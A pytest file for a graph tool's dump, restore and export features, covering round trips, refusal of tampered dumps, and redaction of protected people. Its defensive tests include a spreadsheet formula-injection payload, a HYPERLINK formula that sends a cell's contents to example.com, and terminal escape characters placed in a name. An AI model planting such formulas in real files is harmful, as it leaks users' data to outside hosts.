"""The dump: export, restore into an empty database, export again, and the
bytes are identical; a damaged dump or a non-empty database is refused
before anything is written."""

from __future__ import annotations

import hashlib
import json
import re
import shutil

import pytest

from graph.conflicts import findings
from graph.dump import DumpError, export, restore
from ingest.load import ingest
from tests.conftest import SAMPLE
from tests.datasets import small


def files(folder):
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


@pytest.fixture
def loaded(graph, tmp_path):
    ingest(graph, SAMPLE)
    ingest(graph, small(tmp_path / "other", name="other-ds"))
    return graph


def test_dump_restore_dump_is_byte_identical(loaded, tmp_path):
    first = tmp_path / "first"
    counts = export(loaded, first)
    before = findings(loaded)
    loaded.write("admin/delete_everything")
    assert restore(loaded, first) == counts
    second = tmp_path / "second"
    export(loaded, second)
    assert files(first) == files(second)
    assert findings(loaded) == before  # the restored graph answers as the original did


# What a CSV reader or `str.splitlines` takes for the end of a line: a carriage return, the
# Unicode line and paragraph separators (text pasted from a web page), NEL, vertical tab...
LINE_ENDS = "a\rb\u2028c\u2029d\x85e\x0bf\x0cg\x1ch\r\ni\nj"


def with_line_ends(folder):
    """A dataset whose officer's description and aliases hold every LINE_ENDS character."""
    return small(folder, people=[
        {"id": "person:officer", "name": "Officer One", "description": LINE_ENDS, "aliases": "A\u2028B;C\rD",
         "sources": "src:a"},
        {"id": "person:victim", "name": "Victim", "protected": "yes", "pseudonym": "V.", "sources": "src:a"}])


def test_a_value_holding_line_ends_dumps_restores_and_exports_whole(graph, tmp_path):
    """The dump splits its lines at newlines only, and CSV files quote a carriage return (RFC
    4180 line ends): before, a U+2028 in a name made the dump unreadable by `restore`, and a
    carriage return split the exported row in two."""
    from tests.conftest import snapshot
    ingest(graph, with_line_ends(tmp_path / "in"))
    officer = graph.read("export/nodes")
    assert [(n["properties"]["description"], n["properties"]["aliases"]) for n in officer
            if n["id"] == "person:officer"] == [(LINE_ENDS, ["A\u2028B", "C\rD"])]
    before = snapshot(graph)
    export(graph, tmp_path / "first")
    graph.write("admin/delete_everything")
    restore(graph, tmp_path / "first")
    export(graph, tmp_path / "second")
    assert files(tmp_path / "first") == files(tmp_path / "second")
    assert reloads_from_csv(graph, tmp_path / "csv", "test-ds") and snapshot(graph) == before


def test_the_dump_holds_everything_with_typed_values(loaded, tmp_path):
    export(loaded, tmp_path / "d")
    nodes = [json.loads(line) for line in (tmp_path / "d" / "nodes.jsonl").read_text(encoding="utf-8").splitlines()]
    kinds = {n["key"][0] for n in nodes}
    assert kinds == {"Entity", "Dataset", "IngestRun", "Claim"}  # data, datasets, run log, claims
    claims = [n["properties"] for n in nodes if n["key"][0] == "Claim"]
    entities = [n for n in nodes if n["key"][0] == "Entity"]
    assert len(claims) >= len(entities)  # every record's word, with its dataset and load time
    assert {c["dataset"] for c in claims} == {"kazakhstan-2022", "other-ds"}
    assert all(set(c["first_loaded"]) == {"$datetime"} for c in claims)
    run = next(n for n in nodes if n["key"][0] == "IngestRun")
    assert set(run["properties"]["started"]) == {"$datetime"}
    rel = json.loads((tmp_path / "d" / "relationships.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert set(rel) == {"start", "type", "end", "properties"}
    lines = (tmp_path / "d" / "nodes.jsonl").read_text(encoding="utf-8").splitlines()
    assert lines == sorted(lines)


def test_restore_refuses_a_database_that_is_not_empty(loaded, tmp_path):
    export(loaded, tmp_path / "d")
    with pytest.raises(DumpError, match="not empty"):
        restore(loaded, tmp_path / "d")
    export(loaded, tmp_path / "after")
    assert files(tmp_path / "d") == files(tmp_path / "after")  # untouched
    restore(loaded, tmp_path / "d", wipe=True)
    export(loaded, tmp_path / "wiped")
    assert files(tmp_path / "d") == files(tmp_path / "wiped")


def test_a_damaged_dump_is_refused_before_anything_is_written(loaded, tmp_path):
    export(loaded, tmp_path / "d")
    nodes = tmp_path / "d" / "nodes.jsonl"
    nodes.write_bytes(nodes.read_bytes()[:-200])  # cut short
    loaded.write("admin/delete_everything")
    with pytest.raises(DumpError, match="checksum"):
        restore(loaded, tmp_path / "d")
    assert loaded.read("dump/is_empty")[0]["empty"]
    with pytest.raises(DumpError, match="not a chainwatch dump"):
        restore(loaded, tmp_path)


def reseal(folder):
    """Seal a changed dump again, as another tool might: its checksums then hold."""
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    for name in ("nodes.jsonl", "relationships.jsonl"):
        manifest["files"][name]["sha256"] = hashlib.sha256((folder / name).read_bytes()).hexdigest()
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")


def _changed(name, change):
    """Change the last line of a dump's file as JSON (or its text, given a string)."""
    def apply(folder):
        lines = (folder / name).read_text(encoding="utf-8").split("\n")[:-1]
        lines[-1] = change if isinstance(change, str) else json.dumps(change(json.loads(lines[-1])))
        (folder / name).write_text("\n".join(lines) + "\n", encoding="utf-8")
    return apply


def _with(key, value):
    return lambda line: {**line, key: value}


def _property(value):
    return lambda line: {**line, "properties": {**line["properties"], "x": value}}


# What a dump sealed again after a change may hold, and the words the refusal names it by.
RESEALED = {
    "a relationship to a node the dump lacks": (_changed("relationships.jsonl", _with("end", ["Entity", "person:nobody"])),
                                                "relationships.jsonl, line {last}: its end"),
    "a key twice": (lambda f: (f / "nodes.jsonl").write_bytes((f / "nodes.jsonl").read_bytes() * 2),
                    "nodes.jsonl, line {doubled}: its key .* is the key of line 1 too"),
    "a key that is not the node's id": (_changed("nodes.jsonl", lambda n: {**n, "key": [n["key"][0], "other:id"]}),
                                        "is not its"),
    "a key label the node lacks": (_changed("nodes.jsonl", _with("key", ["Nope", "x"])), "its key"),
    "labels that are not a list": (_changed("nodes.jsonl", _with("labels", "Person")), "labels are not a list"),
    "a relationship type that is empty": (_changed("relationships.jsonl", _with("type", "")), "its type is not a name"),
    "a map": (_changed("nodes.jsonl", _property({"a": 1})), "neither a value nor a date"),
    "a number beyond 64 bits": (_changed("relationships.jsonl", _property(2 ** 70)), "beyond the 64 bits"),
    "a list of mixed kinds": (_changed("nodes.jsonl", _property([1, "a"])), "mixes kinds"),
    "a list of lists": (_changed("nodes.jsonl", _property([[1]])), "mixes kinds"),
    "a list holding null": (_changed("nodes.jsonl", _property([None, "a"])), "holds lists or nulls"),
    "a date that is no date": (_changed("relationships.jsonl", _property({"$date": "2022-13-45"})), "no date or datetime"),
    "a time zone that is none": (_changed("nodes.jsonl", _property({"$datetime": "2022-01-05T10:00:00+05:00[Mars/Olympus]"})),
                                 "no date or datetime"),
    "properties that are not an object": (_changed("nodes.jsonl", _with("properties", [1, 2])), "not a JSON object"),
    "a line cut short": (_changed("nodes.jsonl", '{"key": ["Entity", '), "nodes.jsonl, line {last}: not JSON"),
    "a line that is a list": (_changed("relationships.jsonl", "[1, 2]"), "the line is not a JSON object"),
    "bytes that are not UTF-8": (lambda f: (f / "nodes.jsonl").write_bytes((f / "nodes.jsonl").read_bytes() + b"\xff\n"),
                                 "nodes.jsonl, line {doubled}: not UTF-8"),
}


def test_a_dump_changed_and_sealed_again_is_refused_before_the_wipe(graph, tmp_path):
    """A dump is data from outside: checked line by line before `--wipe` deletes anything. Before,
    these failed in the server part way, after the wipe (the graph lost, half a dump in its
    place), or as a Python traceback."""
    from tests.conftest import snapshot
    ingest(graph, small(tmp_path / "ds"))
    export(graph, tmp_path / "intact")
    before = snapshot(graph)
    wrong = {}
    for case, (change, words) in RESEALED.items():
        folder = tmp_path / re.sub(r"\W+", "-", case)
        shutil.copytree(tmp_path / "intact", folder)
        lines = {"nodes.jsonl": 0, "relationships.jsonl": 0}
        lines = {n: (folder / n).read_bytes().count(b"\n") for n in lines}
        last = lines["relationships.jsonl" if "relationships.jsonl" in words else "nodes.jsonl"]
        change(folder)
        reseal(folder)
        try:
            restore(graph, folder, wipe=True)
            wrong[case] = "restored"
        except DumpError as e:
            if not re.search(words.format(last=last, doubled=lines["nodes.jsonl"] + 1), str(e)):
                wrong[case] = str(e)
        if snapshot(graph) != before:
            wrong[case] = "the graph changed"
            restore(graph, tmp_path / "intact", wipe=True)
    assert wrong == {}


def test_restore_names_the_line_of_a_resealed_dump_without_a_traceback(cli, tmp_path):
    assert cli("ingest", small(tmp_path / "ds")).returncode == 0
    assert cli("export", tmp_path / "d", "--format", "jsonl").returncode == 0
    _changed("relationships.jsonl", '{"start": ')(tmp_path / "d")
    reseal(tmp_path / "d")
    run = cli("restore", tmp_path / "d", "--wipe")
    assert run.returncode == 1 and "Traceback" not in run.stderr
    assert "relationships.jsonl, line" in run.stderr and "restore from an intact copy" in run.stderr


# Date-times as Neo4j holds them: an offset, a named zone, UTC as an offset, a local one.
TIMES = {"offset": "datetime('2022-01-05T10:00:00+05:00')", "zone": "datetime('2022-01-05T10:00:00[Asia/Almaty]')",
         "utc": "datetime('2022-01-05T10:00:00Z')", "local": "localdatetime('2022-01-05T10:00:00')"}


def set_times(graph):
    """Give the officer each kind of date-time, as a user might in Neo4j Browser."""
    sets = ", ".join(f"n.t_{k} = {v}" for k, v in TIMES.items())
    graph.driver.execute_query(f"MATCH (n:Entity {{id: 'person:officer'}}) SET {sets}", database_=graph.database)


def times(graph) -> dict:
    """The officer's date-times as Cypher prints them (`+05:00` or `[Asia/Almaty]`)."""
    shown = ", ".join(f"{k}: toString(n.t_{k})" for k in TIMES)
    return graph.driver.execute_query(f"MATCH (n:Entity {{id: 'person:officer'}}) RETURN {{{shown}}} AS t",
                                      database_=graph.database).records[0]["t"]


def test_a_named_time_zone_and_an_offset_come_back_as_they_were(graph, tmp_path):
    """Before, restore gave every date-time the zone `[UTC]` whatever it held (`...Z` became
    `...Z[UTC]`, `+06:00[Asia/Almaty]` became `+06:00`), while the dumps still compared equal."""
    ingest(graph, small(tmp_path / "ds"))
    set_times(graph)
    before = times(graph)
    assert before["zone"].endswith("[Asia/Almaty]") and before["utc"].endswith("Z")
    export(graph, tmp_path / "d")
    restore(graph, tmp_path / "d", wipe=True)
    assert times(graph) == before
    export(graph, tmp_path / "again")
    assert files(tmp_path / "d") == files(tmp_path / "again")


def test_a_node_without_a_key_cannot_be_dumped(graph, tmp_path):
    graph.driver.execute_query("CREATE (:Scratch {note: 'typed by hand'})", database_=graph.database)
    with pytest.raises(DumpError, match="Scratch"):
        export(graph, tmp_path / "d")


def test_export_and_restore_commands(cli, tmp_path):
    assert cli("ingest", SAMPLE).returncode == 0
    first = cli("export", tmp_path / "a", "--format", "jsonl")
    assert first.returncode == 0, first.stderr
    refused = cli("restore", tmp_path / "a")
    assert refused.returncode == 1 and "--wipe" in refused.stderr
    assert cli("restore", tmp_path / "a", "--wipe").returncode == 0
    assert cli("export", tmp_path / "b").returncode == 0
    assert files(tmp_path / "a") == files(tmp_path / "b")
    unknown = cli("export", tmp_path / "c", "--format", "xlsx")
    assert unknown.returncode == 1 and "use one of: jsonl, csv, graphml, gexf, ftm" in unknown.stderr


# -- network files for Gephi and yEd ------------------------------------------

def test_graphml_and_gexf_parse_with_the_right_counts_and_attributes(loaded, cli, tmp_path):
    import networkx as nx
    expected = loaded.read("export/network", dataset="kazakhstan-2022")[0]
    for fmt, reader in (("graphml", nx.read_graphml), ("gexf", nx.read_gexf)):
        result = cli("export", tmp_path / fmt, "--format", fmt, "--dataset", "kazakhstan-2022")
        assert result.returncode == 0, result.stderr
        g = reader(tmp_path / fmt / f"graph.{fmt}")
        assert g.number_of_nodes() == len(expected["nodes"]) and g.number_of_edges() == len(expected["edges"])
        azanov = g.nodes["person:baurzhan-azanov"]
        assert azanov["label"] == "Baurzhan Azanov" and azanov["kind"] == "Person"
        edge = next(d for u, v, d in g.edges(data=True)
                    if (u, v) == ("person:baurzhan-azanov", "event:azanov-petition-february"))
        assert (edge["relation"], edge["role"], edge["confidence"]) == ("PARTICIPATED_IN", "complainant", "medium")
        assert edge["sources"] == "src:insider-2022" and edge["id"].startswith("rel:")
        assert "person:officer" not in g  # the other dataset is left out
    gexf = (tmp_path / "gexf" / "graph.gexf").read_text(encoding="utf-8")
    assert 'mode="dynamic"' in gexf and 'start="2022-01-08" end="2022-01-17"' in gexf  # Gephi's timeline
    assert 'type="PART_OF"' not in gexf  # GEXF reserves an edge's type for its direction


def test_a_control_character_in_a_name_leaves_graphml_and_gexf_readable(tmp_path):
    """XML cannot hold an escape character: written raw, it made a file no program opens."""
    import networkx as nx
    from graph.network_export import as_networkx, write_graphml
    g = as_networkx([{"id": "person:a", "name": "Evil\x1b[2J\u202e", "kind": "Person"},
                     {"id": "unit:b", "name": "B", "kind": "Unit"}],
                    [{"id": "rel:1", "source": "person:a", "target": "unit:b", "relation": "MEMBER_OF",
                      "quote": "said\x07"}])
    write_graphml(g, tmp_path / "graph.graphml")
    nx.write_gexf(g, tmp_path / "graph.gexf")
    for read, name in ((nx.read_graphml, "graph.graphml"), (nx.read_gexf, "graph.gexf")):
        h = read(tmp_path / name)
        assert h.nodes["person:a"]["label"] == "Evil\\x1b[2J\\u202e", name
        assert next(iter(h.edges(data=True)))[2]["quote"] == "said\\x07", name


def test_a_redacted_export_names_no_protected_person_in_any_format(loaded, cli, tmp_path):
    for fmt in ("graphml", "gexf", "csv", "jsonl", "ftm"):
        for dataset in ([], ["--dataset", "other-ds"]) if fmt != "jsonl" else ([],):
            folder = tmp_path / (fmt + "".join(dataset))
            done = cli("export", folder, "--format", fmt, "--redact", *dataset)
            assert done.returncode == 0, done.stderr
            text = "\n".join(p.read_text(encoding="utf-8") for p in sorted(folder.iterdir()))
            for real in ("Seventeen-year-old from the Almaty region", "person:taldykorgan-teenager", "Victim",
                         "person:victim", "person.taldykorgan-teenager", "person.victim"):  # FtM ids use dots
                assert not re.search(r"(?<!\w)" + re.escape(real) + r"(?!\w)", text), (fmt, dataset, real)
            assert "V." in text and ("Minor T." in text or dataset)
    unredacted = cli("export", tmp_path / "plain", "--format", "gexf")
    assert unredacted.returncode == 0
    assert "person:taldykorgan-teenager" in (tmp_path / "plain" / "graph.gexf").read_text(encoding="utf-8")
    # The redacted dump restores to a graph that is itself redacted.
    assert cli("restore", tmp_path / "jsonl", "--wipe").returncode == 0
    names = cli("cypher", "MATCH (n) RETURN n.name AS name, n.id AS id, n.aliases AS aliases", "--format", "json")
    assert "Minor T." in names.stdout and "person:taldykorgan-teenager" not in names.stdout
    assert "Seventeen-year-old" not in names.stdout
    refused = cli("export", tmp_path / "x", "--format", "jsonl", "--dataset", "other-ds")
    assert refused.returncode == 1 and "--format csv --dataset other-ds" in refused.stderr


# -- our own dataset format, safe in a spreadsheet ------------------------------

FORMULAS = ["=HYPERLINK(\"http://example.com/?leak=\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A2)",
            "'=already quoted", "'t Hooft"]


def reloads_from_csv(graph, folder, dataset: str) -> bool:
    """Whether the CSV export of `dataset`, written to `folder` and loaded into the emptied
    graph, gives back the graph it came from (the files stay, to be read)."""
    from graph.dataset_export import write
    from tests.conftest import snapshot
    before = snapshot(graph)
    write(graph, folder, dataset=dataset)
    graph.write("admin/delete_everything")
    ingest(graph, folder)
    return snapshot(graph) == before


def test_csv_export_loads_back_to_the_same_graph(loaded, tmp_path):
    loaded.write("admin/delete_everything")
    ingest(loaded, SAMPLE)
    assert reloads_from_csv(loaded, tmp_path / "ds", "kazakhstan-2022")


def test_formula_payloads_are_neutralised_and_round_trip(graph, tmp_path):
    import csv as csv_module
    from graph.cells import FORMULA_STARTS, neutralise
    # The values the graph must hold, written as a careful researcher (or our export) writes them.
    people = [{"id": f"person:f{i}", "name": neutralise(value), "sources": "src:a"}
              for i, value in enumerate(FORMULAS)]
    folder = small(tmp_path / "in", name="formulas", people=people + [
        {"id": "person:officer", "name": "Officer One", "sources": "src:a"},
        {"id": "person:victim", "name": "Victim", "sources": "src:a"}])
    ingest(graph, folder)
    names = {r["id"]: r["properties"].get("name") for r in graph.read("export/nodes")}
    assert [names[f"person:f{i}"] for i in range(len(FORMULAS))] == FORMULAS
    assert reloads_from_csv(graph, tmp_path / "out", "formulas")
    for path in (tmp_path / "out").glob("*.csv"):
        with open(path, encoding="utf-8", newline="") as f:
            for row in csv_module.reader(f):
                assert not [c for c in row if c.startswith(FORMULA_STARTS)], (path.name, row)
